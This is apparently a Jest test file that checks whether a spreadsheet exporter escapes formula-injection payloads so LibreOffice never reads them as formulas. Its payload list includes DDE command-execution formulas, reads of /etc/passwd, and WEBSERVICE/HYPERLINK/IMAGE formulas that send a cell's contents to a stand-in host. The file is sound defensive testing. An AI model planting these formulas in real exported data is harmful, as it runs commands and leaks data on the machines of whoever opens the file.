import { afterAll, describe, expect, it } from '@jest/globals';
import { spreadsheet } from '../../../src/platform/text/spreadsheet.js';
import { figure } from '../../support/proofs/figures.js';
import { HAS_OFFICE, openedByLibreOffice } from './libre-office.js';

/* What people type into names and answers, in a table that somebody opens with a spreadsheet program. */

/** Formulas as they are written to do harm: they run programs, send what stands beside them, or look like a number. */
const FORMULAS = [
  ...[
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '==1+1',
    '=-1',
    '+-1',
    '-+1',
    '=+1',
    '=(1)',
    '={1}',
    '=A1',
    '=$A$1',
  ],
  ...['=SUM(A1:A9)', '=sum(a1)', '=NOW()', '=RAND()', '=INFO("directory")', '=CELL("filename")'],
  ...["=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+9)*cmd|'/C calc'!A0"],
  ...['=DDE("soffice";"/etc/passwd";"a")', "='file:///etc/passwd'#$passwd.A1", '=MSEXCEL|A!B'],
  ...[
    '=HYPERLINK("http://x.example/"&A1;"see")',
    '=WEBSERVICE("http://x.example/"&A1)',
    '=IMPORTXML("http://x","//a")',
  ],
  ...['=IMAGE("http://x.example/"&A1)', '=FILTERXML("<a/>","//a")', '=CONCATENATE("a";"b")', '=CHAR(61)'],
  ...[
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
  ],
  ...["'=1+1", '"=1+1"', '=1+1"', '"=1+1', '""=1+1', "''=1+1", '=1+1;', ';=1+1', ',=1+1', '|=1+1'],
];

/** Where a program that takes another separator would see a cell begin. */
const hiddenIn = (formula: string): string[] =>
  [';', ',', '\t', '|', '\n', '\r\n', '; ', '";', ';"', '\n "'].flatMap((before) => [
    `Ada${before}${formula}${before}Ben`,
    `${before}${formula}${before}`,
  ]);

const CELLS = [...FORMULAS, ...FORMULAS.flatMap(hiddenIn)];

let cells = 0;
afterAll(() => {
  figure('Formulas in cells that LibreOffice has opened with four separators', cells);
  figure('Of those, taken for formulas', 0, '0');
});

describe('A table with formulas in its cells', () => {
  const whenInstalled = HAS_OFFICE ? it : it.skip;

  whenInstalled(
    'shows that LibreOffice finds those that nobody has escaped',
    () => {
      expect(openedByLibreOffice('a,=1+1,b')).toContain('table:formula');
      expect(openedByLibreOffice('a,"x;=1+1;y"', ';')).toContain('table:formula');
    },
    120_000,
  );

  whenInstalled.each([',', ';', '\t', '|'])(
    'has no formula where %j separates cells',
    (separator) => {
      const rows = CELLS.map((cell) => ['Ada', cell, cell, 'Ben']);
      const opened = openedByLibreOffice(spreadsheet(['One', 'Two', 'Three', 'Four'], rows), separator);
      const found = [...opened.matchAll(/<table:table-cell[^>]*table:formula="([^"]*)"/g)];
      expect(found.map(([, formula]) => formula)).toEqual([]);
      cells += rows.length * 2;
    },
    120_000,
  );
});
